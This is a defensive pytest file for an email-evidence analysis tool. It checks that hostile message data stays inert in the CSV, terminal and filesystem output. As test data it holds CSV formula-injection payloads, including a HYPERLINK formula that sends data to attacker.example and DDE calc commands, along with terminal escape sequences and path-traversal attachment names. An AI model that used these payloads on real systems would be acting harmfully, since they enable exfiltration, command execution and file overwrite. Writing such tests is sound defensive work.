"""Evidence is attacker-controlled: nothing from it turns into a formula, a terminal
escape sequence or a file system path on the analyst's machine."""

from __future__ import annotations

import base64
import csv
import re
import subprocess
import sys
from email.message import EmailMessage
from pathlib import Path

#: Cell starts a spreadsheet reads as a formula (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

#: C0 and C1 control characters other than newline: escape sequences start with them.
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")

SUBJECTS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Invoice")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tInvoice=1+1",
    "\rInvoice=1+1",
    "Invoice \x1b]0;owned\x07 \x1b[2J\x1b[31mpaid\x1b[0m",
]


def _encoded(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def _hostile_evidence(folder: Path) -> None:
    folder.mkdir()
    for number, subject in enumerate(SUBJECTS):
        message = EmailMessage()
        message["From"] = f"CEO-NAME <ceo{number}@acme-c0rp.com>"
        message["To"] = "ap@acme-corp.com"
        message["Subject"] = "SUBJECT-TEXT"
        message["Date"] = f"Mon, 8 Apr 2024 1{number}:00:00 +0000"
        message["Message-ID"] = f"<hostile{number}@acme-c0rp.com>"
        message.set_content("Pay the invoice today.\n")
        for name in ("../../../../tmp/inbec-pwned.txt", "..\\..\\evil.bat", "/etc/cron.d/x"):
            message.add_attachment(b"x", maintype="text", subtype="plain", filename=name)
        # Encoded words carry what a raw header line cannot (CR, escape sequences).
        raw = bytes(message).replace(b"SUBJECT-TEXT", _encoded(subject).encode())
        raw = raw.replace(b"CEO-NAME", _encoded("\x1b[1mCEO\x1b[0m").encode())
        (folder / f"hostile{number}.eml").write_bytes(raw)


def test_hostile_subjects_names_and_attachments_stay_inert(tmp_path: Path) -> None:
    evidence = tmp_path / "evidence"
    _hostile_evidence(evidence)
    out = tmp_path / "case"
    command = [sys.executable, "-m", "inbec_export", "analyze", str(evidence), "-o", str(out)]
    command += ["--legit", "acme-corp.com", "--subject-pattern", "."]
    result = subprocess.run(
        command, capture_output=True, text=True, timeout=600, cwd=tmp_path, check=False
    )
    assert result.returncode == 0, result.stderr

    # The terminal gets no control character from evidence (rich adds none without a tty).
    assert not CONTROL.search(result.stdout + result.stderr)
    assert "paid" in result.stdout  # the subject itself is shown, only defused

    # Spreadsheet files: no cell a spreadsheet would run, and every subject still there.
    rows = 0
    for name in ("timeline.csv", "subject-matches.csv"):
        with (out / name).open(encoding="utf-8", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                rows += 1
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
    with (out / "subject-matches.csv").open(encoding="utf-8", newline="") as handle:
        subjects = [row[3] for row in list(csv.reader(handle))[1:]]
    assert len(subjects) == len(SUBJECTS) and rows > len(SUBJECTS)
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Invoice")' in subjects

    # Attachment names never become paths: the case folder holds only its own files.
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*"))
    assert written == [
        "failures.ndjson",
        "findings.ndjson",
        "mappings",
        "mappings/findings.json",
        "mappings/messages.json",
        "messages.ndjson",
        "report.html",
        "subject-matches.csv",
        "summary.json",
        "timeline.csv",
        "timeline.jsonl",
    ]
    assert not (Path("/tmp") / "inbec-pwned.txt").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["case", "evidence"]
